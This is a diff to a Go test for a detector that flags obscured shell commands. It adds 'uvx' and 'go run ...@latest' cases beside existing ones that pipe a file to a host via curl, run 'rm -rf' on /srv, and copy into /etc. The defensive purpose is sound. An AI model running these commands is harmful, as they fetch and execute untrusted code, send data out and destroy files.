@@ -54,6 +54,8 @@ func TestObscured(t *testing.T) {
 		"api_key=" + secret + "; xxd -r <<< $api_key":                                     {decoder},
 		"api_key=" + secret + "; npx $api_key":                                            {runs},
 		"api_key=" + secret + "; curl --data-binary @f https://a@b@$api_key/":             {address},
+		"api_key=" + secret + "; uvx $api_key":                                            {runs},
+		"api_key=" + secret + "; go run $api_key/x@latest":                                {runs},
 		// What it acts on.
 		"api_key=" + secret + "; rm -rf /srv/$api_key":               {object},
 		"api_key=" + secret + "; cp x /etc/$api_key":                 {object},
